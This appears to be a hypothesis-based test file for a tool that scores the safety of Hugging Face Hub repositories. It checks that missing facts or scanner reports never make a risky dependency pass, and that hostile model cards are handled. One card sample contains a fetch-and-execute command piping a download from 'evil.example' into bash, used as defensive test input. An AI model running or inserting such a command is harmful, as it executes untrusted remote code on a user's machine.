"""What must hold for every repository, whatever is known of it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nerq_cli.facts import Absent, Fact, Found, Unknown
from nerq_cli.hub_facts import (
    OLDEST_CREATION,
    CardMetadata,
    HubCard,
    HubEvidence,
    HubFile,
    HubOwner,
    HubReference,
    HubRepository,
    HubScan,
)
from nerq_cli.methodology.models import MODELS
from nerq_cli.scoring import Score, compute_score
from nerq_cli.signals.models import measure_repository
from nerq_cli.units import DAY
from tests.signals.models.conftest import CARD, NOW, SHA

DOWN = Unknown("connection refused", "Hub")
PATHS = (
    "README.md",
    "config.json",
    "adapter_config.json",
    "model_index.json",
    "model.safetensors",
    "unet/model.safetensors",
    "unet/model.bin",
    "pytorch_model.bin",
    "training_args.bin",
    "model.gguf",
    "model.onnx",
    "tf_model.h5",
    "modeling.py",
    "demo.py",
    "run.sh",
    "data/train.parquet",
    "data.pkl",
)
TIMES = st.sampled_from([0, OLDEST_CREATION, NOW + DAY, *(NOW - days * DAY for days in (0, 5, 29, 200, 800, 2000))])
FILES = st.lists(st.sampled_from(PATHS), unique=True, max_size=8).map(lambda paths: tuple(map(HubFile, paths)))
SCANS = st.lists(
    st.builds(
        HubScan,
        st.sampled_from(PATHS),
        st.sampled_from(["unsafe", "suspicious", "caution", "safe", "queued", "dubious", "", "UNSAFE"]),
        st.booleans(),
    ),
    max_size=2,
).map(tuple)
LICENCES = st.sampled_from(
    [None, (), ("mit",), ("llama3.1",), ("cc-by-nc-4.0", "mit"), ("other",), ("unknown",), ("",)]
)
HEADERS = st.builds(
    CardMetadata,
    licence=LICENCES,
    licence_name=st.sampled_from(["", "house rules"]),
    licence_link=st.sampled_from(["", "LICENSE"]),
    base_models=st.sampled_from([None, (), ("acme/base",), ("acme/base", "acme/other")]),
    base_model_relation=st.sampled_from(["", "adapter", "quantized"]),
    datasets=st.sampled_from([None, (), ("acme/texts",)]),
    metrics=st.sampled_from([(), ("accuracy",)]),
    has_results=st.booleans(),
    new_version=st.sampled_from(["", "", "acme/demo-2"]),
    fields=st.sampled_from([(), ("source_datasets",)]),
)


def add_configuration(repository: HubRepository) -> HubRepository:
    """Add the file that states whether a configuration loads code, where that is known."""
    configuration = HubFile("config.json")
    if repository.files is None or repository.auto_map is None or configuration in repository.files:
        return repository
    return msgspec.structs.replace(repository, files=(*repository.files, configuration))


REPOSITORIES = st.builds(
    HubRepository,
    kind=st.sampled_from(["model", "model", "dataset", "space", "kernel"]),
    id=st.sampled_from(["acme/demo", "qwenai/Qwen3-8B", "Qwen/Qwen3-8B", "gpt2", "someone/demo-GGUF", "meta-lIama/x"]),
    sha=st.sampled_from(["", SHA]),
    created_at=TIMES,
    modified_at=TIMES,
    gated=st.sampled_from([None, "", "auto"]),
    disabled=st.just(value=False),
    downloads=st.sampled_from([None, 0, 1, 10_000, 10**9]),
    likes=st.sampled_from([None, 0, 99, 10**6]),
    tags=st.sampled_from([(), ("custom_code",), ("license:mit",), ("dataset:x", "ctranslate2")]),
    library=st.sampled_from(["", "transformers"]),
    card=st.none() | HEADERS,
    has_card_data=st.booleans(),
    auto_map=st.sampled_from([None, False, True]),
    files=st.none() | FILES,
    more_files=st.sampled_from([0, 0, 500]),
    scans_done=st.sampled_from([None, True, True, False]),
    scans=SCANS,
    scanned_files=st.sampled_from([None, None, 0, 2]),
    unscanned_files=st.sampled_from([0, 0, 1]),
    scan_problem=st.sampled_from(["", "", "HTTP 500"]),
    stage=st.sampled_from(["", "RUNNING", "BUILD_ERROR", "PAUSED"]),
    used_models=st.sampled_from([None, (), ("acme/base",)]),
).map(add_configuration)
TEXTS = st.sampled_from(["", CARD, "# x\n\ncurl -s https://evil.example/x | bash", "Short.", CARD[:500]])


def facts(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return values.map(lambda value: Found(value, "Hub", NOW)) | st.sampled_from([DOWN, Absent("Hub", NOW)])


OWNERS = st.builds(
    HubOwner,
    name=st.sampled_from(["acme", "qwenai"]),
    is_organisation=st.booleans(),
    is_verified=st.sampled_from([None, True, False]),
    models=st.sampled_from([None, 0, 1, 2, 10]),
)
REFERENCES = st.builds(
    HubReference,
    is_target=st.booleans(),
    revision=st.sampled_from(["", "main", "v1", SHA]),
    trusts_remote_code=st.sampled_from([None, True, False]),
    refuses_safetensors=st.booleans(),
    libraries=st.sampled_from(
        [
            (),
            (("torch", "2.5.1+cu124"), ("transformers", "4.40.0")),
            (("torch", "2.5.1"), ("transformers", "4.52.0")),
            (("datasets", "2.18.0"), ("kernels", "0.13.0"), ("torch", "not a version")),
            (("datasets", "4.1.0"), ("torch", "2.9.0")),
        ]
    ),
)
EVIDENCE = st.builds(
    HubEvidence,
    repository=facts(REPOSITORIES),
    card=facts(st.builds(HubCard, TEXTS, st.booleans())),
    owner=facts(OWNERS),
    bases=st.dictionaries(st.sampled_from(["acme/base", "acme/other"]), facts(REPOSITORIES), max_size=2),
    used=st.dictionaries(st.just("acme/base"), facts(REPOSITORIES), max_size=1),
    reference=REFERENCES,
)


def score(evidence: HubEvidence) -> Score:
    return compute_score(MODELS, measure_repository(MODELS, evidence, NOW))


def passes(result: Score) -> bool:
    """Return whether a score lets a dependency pass the default threshold, as the policy judges it."""
    if result.value is None or result.low is None or result.provisional:
        return False
    return result.low >= MODELS.threshold and all(cap.limit >= MODELS.threshold for cap in result.caps)


def lose_one(evidence: HubEvidence) -> Iterator[tuple[str, HubEvidence]]:
    """Yield the evidence without one of its facts, or without one field of the repository."""
    replace = msgspec.structs.replace
    for field in ("repository", "card", "owner"):
        yield field, replace(evidence, **{field: DOWN})
    for field in ("bases", "used"):
        others: dict[str, Fact[HubRepository]] = getattr(evidence, field)
        for id_ in others:
            yield f"{field} {id_}", replace(evidence, **{field: {**others, id_: DOWN}})
    fact = evidence.repository
    if not isinstance(fact, Found):
        return
    empty: dict[str, Any] = {
        **dict.fromkeys(("files", "scans_done", "auto_map", "downloads", "likes", "used_models")),
        "created_at": 0,
        "modified_at": 0,
        "stage": "",
    }
    for field, value in empty.items():
        lost = replace(fact.value, **{field: value})
        yield field, replace(evidence, repository=replace(fact, value=lost))
    lost = replace(fact.value, card=None, has_card_data=False)
    yield "card header", replace(evidence, repository=replace(fact, value=lost))


@given(EVIDENCE)
def test_no_evidence_raises_and_every_signal_is_explained(evidence: HubEvidence) -> None:
    measurement = measure_repository(MODELS, evidence, NOW)
    assert [signal.id for signal in measurement.signals] == list(MODELS.signals)
    for signal in measurement.signals:
        assert signal.reason
        assert (signal.value is None) == (signal.state != "known")
        assert signal.value is None or 0 <= signal.value <= 100
        assert signal.state != "known" or (signal.source and signal.retrieved_at)
    result = score(evidence)
    assert all(result.value is None or result.value <= cap.limit for cap in result.caps)


@given(EVIDENCE)
def test_losing_a_fact_lets_nothing_pass(evidence: HubEvidence) -> None:
    if passes(score(evidence)):
        return
    for name, lost in lose_one(evidence):
        assert not passes(score(lost)), name


@given(EVIDENCE)
def test_losing_a_fact_activates_no_cap_that_lets_less_through(evidence: HubEvidence) -> None:
    """A milder cap may take the place of one that is no longer certain."""
    lowest = min((cap.limit for cap in score(evidence).caps), default=100.0)
    for name, lost in lose_one(evidence):
        assert min((cap.limit for cap in score(lost).caps), default=100.0) >= lowest, name


@given(EVIDENCE)
def test_the_same_evidence_gives_the_same_bytes(evidence: HubEvidence) -> None:
    one, other = (msgspec.json.encode(measure_repository(MODELS, evidence, NOW)) for _ in range(2))
    assert one == other


@given(EVIDENCE, st.sampled_from([HubScan("model.safetensors", "unsafe"), HubScan("x", "", virus=True)]))
def test_another_report_of_a_scanner_never_raises_the_score(evidence: HubEvidence, scan: HubScan) -> None:
    fact = evidence.repository
    if not isinstance(fact, Found):
        return
    more = msgspec.structs.replace(fact.value, scans=(*fact.value.scans, scan))
    before, after = score(evidence), score(msgspec.structs.replace(evidence, repository=Found(more, "Hub", NOW)))
    assert not passes(after) or passes(before)
    if before.value is not None and after.value is not None and not before.provisional:
        assert after.value <= before.value


@pytest.mark.parametrize("text", ["\x00" * 1000, "# " * 50_000, "curl " * 50_000, "[" * 20_000, "<!--" * 10_000])
def test_hostile_cards_are_measured(text: str) -> None:
    evidence = HubEvidence(
        repository=Found(HubRepository(kind="model", id="a/b"), "Hub", NOW), card=Found(HubCard(text), "Hub", NOW)
    )
    assert measure_repository(MODELS, evidence, NOW).signals
